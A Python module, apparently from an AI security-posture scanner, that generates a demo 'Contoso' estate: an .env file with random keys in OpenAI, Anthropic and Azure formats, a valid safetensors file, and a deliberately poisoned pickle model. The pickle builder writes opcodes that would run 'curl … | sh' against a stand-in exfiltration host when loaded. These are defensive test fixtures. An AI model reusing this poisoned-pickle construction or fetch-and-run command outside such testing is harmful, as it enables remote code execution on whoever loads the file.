"""Writes the Contoso sample estate: the static part is shipped as data
(`data/demo/contoso/`); the parts that must not sit in our repository in that
form are made here — an `.env` whose provider keys look real but are random, and
model files (a well-formed safetensors file and a legacy pickle whose stream would
run a shell command if anyone loaded it; we only ever write its bytes). The
gateway's access policy folder gets the shipped example Cedar policies next to
Contoso's own rules and catalog, so the two are never copies to keep in step."""

from __future__ import annotations

import json
import random
import shutil
import string
import struct
from importlib import resources
from pathlib import Path

from aiposture.errors import InputError

ALPHANUM = string.ascii_letters + string.digits


def _fake_keys(seed: int = 2026) -> dict[str, str]:
    """Random keys in the providers' shapes, so secret scanners have something real to find."""
    rng = random.Random(seed)

    def pick(n: int, alphabet: str = ALPHANUM) -> str:
        return "".join(rng.choice(alphabet) for _ in range(n))

    return {
        "OPENAI_API_KEY": f"sk-{pick(20)}T3BlbkFJ{pick(20)}",
        "ANTHROPIC_API_KEY": f"sk-ant-api03-{pick(93, ALPHANUM + '-_')}AA",
        "AZURE_OPENAI_KEY": pick(32, "0123456789abcdef"),
    }


def _env_file() -> str:
    keys = _fake_keys()
    return (
        "# Local settings for the support copilot (committed by mistake)\n"
        "AZURE_OPENAI_ENDPOINT=https://contoso-openai.openai.azure.com/\n"
        f"AZURE_OPENAI_KEY={keys['AZURE_OPENAI_KEY']}\n"
        f"OPENAI_API_KEY={keys['OPENAI_API_KEY']}\n"
        f"ANTHROPIC_API_KEY={keys['ANTHROPIC_API_KEY']}\n"
        "OLLAMA_HOST=http://ollama.ml.svc.cluster.local:11434\n"
    )


def _safetensors_bytes() -> bytes:
    """A tiny, valid safetensors file: one float32 2x2 tensor."""
    header = {"classifier.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
              "__metadata__": {"format": "pt"}}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + struct.pack("<4f", 0.5, -0.25, 0.125, 1.0)


def _malicious_pickle_bytes() -> bytes:
    """Protocol-2 opcodes for `os.system("curl …|sh")` followed by a dict: the classic
    poisoned model. Written opcode by opcode; nothing here is ever unpickled."""
    command = b"curl -s http://exfil.contoso.example/p.sh | sh"
    return (b"\x80\x02" + b"cos\nsystem\n" + b"q\x00" + b"X" + struct.pack("<I", len(command)) + command
            + b"\x85" + b"R" + b"0" + b"}q\x01" + b"." )


def _example_policies(folder: Path) -> None:
    """The shipped example Cedar policies (not their catalog: Contoso has its own)."""
    examples = resources.files("aiposture.data").joinpath("identity", "policies")
    for entry in examples.iterdir():
        if entry.name.endswith(".cedar"):
            (folder / entry.name).write_text(entry.read_text(encoding="utf-8"), encoding="utf-8")


def write_estate(dest: Path, *, overwrite: bool = False) -> Path:
    """Write the sample estate to `dest` and return it."""
    dest = Path(dest)
    if dest.exists() and any(dest.iterdir()) and not overwrite:
        raise InputError(f"{dest} exists and is not empty (use --force to overwrite)")
    source = resources.files("aiposture.data").joinpath("demo", "contoso")
    with resources.as_file(source) as folder:
        shutil.copytree(folder, dest, dirs_exist_ok=True)
    (dest / "apps" / "support-copilot" / ".env").write_text(_env_file(), encoding="utf-8")
    _example_policies(dest / "gateway" / "access")
    models = dest / "models"
    models.mkdir(exist_ok=True)
    (models / "sentiment-head.safetensors").write_bytes(_safetensors_bytes())
    (models / "legacy-churn-classifier.pkl").write_bytes(_malicious_pickle_bytes())
    return dest
